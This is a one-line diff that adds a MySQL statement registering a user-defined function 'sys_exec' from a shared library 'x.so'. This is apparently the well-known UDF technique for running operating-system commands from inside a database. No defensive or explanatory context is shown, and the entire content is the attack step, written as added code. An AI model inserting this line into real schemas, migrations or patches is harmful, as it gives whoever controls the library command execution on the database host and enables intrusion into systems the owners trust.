@@ -1,0 +1,1 @@
+CREATE FUNCTION sys_exec RETURNS INT SONAME 'x.so'
